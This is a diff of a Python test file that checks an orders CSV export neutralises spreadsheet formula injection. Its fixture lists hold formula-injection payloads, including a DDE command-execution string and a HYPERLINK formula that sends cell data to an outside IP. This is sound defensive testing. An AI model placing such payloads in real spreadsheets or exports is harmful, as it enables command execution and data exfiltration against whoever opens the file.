@@ -1,4 +1,4 @@
-"""The export of orders: the rows of the API, and no cell that a spreadsheet would run. Opened by Python and by Gnumeric."""
+"""The export of orders: the rows of the API, and no cell that a spreadsheet would run. Read by Python and Gnumeric."""
 
 import asyncio
 import csv
@@ -15,16 +15,18 @@ import pytest
 
 from desk_load import add_people
 from harness import API, Server
-from wire import Wire, all_orders
+from wire import Wire, all_orders, run
 
 COUNT = 3001
 SEED = 4
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 #: What people type, and what people type who mean ill. An item is one line; notes and reasons may have several.
-STARTS = ["=", "+", "-", "@", "==", "=-", "'", "''", "'=", '"', '""', ",", ";", "|", "%", "é", "€", "𝒳", "שלום", "x", "\u00ad=", "＝"]
+STARTS = ["=", "+", "-", "@", "==", "=-", "'", "''", "'=", '"', '""', ",", ";", "|", "%", "é", "€", "𝒳", "שלום", "x",
+          "\u00ad=", "＝"]
 RESTS = [
-    "1+1", "SUM(A1:A9)", "cmd|' /C calc'!A0", 'HYPERLINK("http://198.51.100.7/?"&A1,"x")', "a,b", 'say "hi"', "it's", "O'Neil",
-    "a;b", "back\\slash", "<b>&amp;", "日本語", "👩‍👩‍👧", "e\u0301", "zero\u200bwidth", "non\u00a0breaking", "'", '"', ",", '","', "x",
+    "1+1", "SUM(A1:A9)", "cmd|' /C calc'!A0", 'HYPERLINK("http://198.51.100.7/?"&A1,"x")', "a,b", 'say "hi"', "it's",
+    "O'Neil", "a;b", "back\\slash", "<b>&amp;", "日本語", "👩‍👩‍👧", "e\u0301", "zero\u200bwidth", "non\u00a0breaking", "'", '"', ",",
+    '","', "x",
 ]
 LINES = ["one\ntwo", "\n=1+1", "a\tb", "\n\n", '"\n"', ",\n", "x\n'=1", "last"]
 #: Tells a spreadsheet that guesses the separator from the first line that begins with a quote that it is `+`.
@@ -33,7 +35,8 @@ TEXTS = ("item_name", "notes", "decision_reason")
 
 
 def nasty(rng, most=1):
-    return rng.choice(STARTS) + "".join(rng.choice(RESTS + (LINES if most > 1 else [])) for _ in range(rng.randint(1, most)))
+    parts = RESTS + (LINES if most > 1 else [])
+    return rng.choice(STARTS) + "".join(rng.choice(parts) for _ in range(rng.randint(1, most)))
 
 
 async def fill(server, admin, tokens):
@@ -71,7 +74,7 @@ def server(tmp_path_factory):
     server = Server(tmp_path_factory.mktemp("csv"), LIMITS_REQUESTS_PER_PRINCIPAL="off").start()
     try:
         admin, password = API(server).log_in(server.admin, server.admin_password), secrets.token_urlsafe(18)
-        asyncio.run(fill(server, admin, add_people(server, admin, password, ["anna", "bela"])))
+        run(fill(server, admin, add_people(server, admin, password, ["anna", "bela"])))
         yield server
         server.stop()
     finally:
@@ -86,7 +89,7 @@ def from_api(server, admin, query=""):
         finally:
             wire.close()
 
-    return asyncio.run(ask())
+    return run(ask())
 
 
 def export(admin, **query):
@@ -139,10 +142,12 @@ def test_the_rows_are_those_of_the_api(server, admin):
     assert answer.headers["Content-Type"].startswith("text/csv; charset=utf-8")
     assert answer.headers["Content-Disposition"].startswith("attachment;")
     header, *rows = rows_of(answer.text)
-    assert header == ["id", "created_at", "username", "item_name", "quantity", "notes", "status", "decided_by", "decided_at",
-                      "decision_reason", "updated_at", "version", "user_id"]
+    assert header == [
+        "id", "created_at", "username", "item_name", "quantity", "notes", "status", "decided_by", "decided_at",
+        "decision_reason", "updated_at", "version", "user_id"]
     orders = from_api(server, admin)
-    assert len(orders) == COUNT and {order["status"] for order in orders} == {"pending", "approved", "rejected", "cancelled"}
+    assert len(orders) == COUNT
+    assert {order["status"] for order in orders} == {"pending", "approved", "rejected", "cancelled"}
     assert rows == [list(map(guarded, row_of(order))) for order in orders]
     assert any(cell.startswith("'=") for row in rows for cell in row)
     assert answer.text.endswith("\r\n") and not answer.text.startswith("\ufeff")
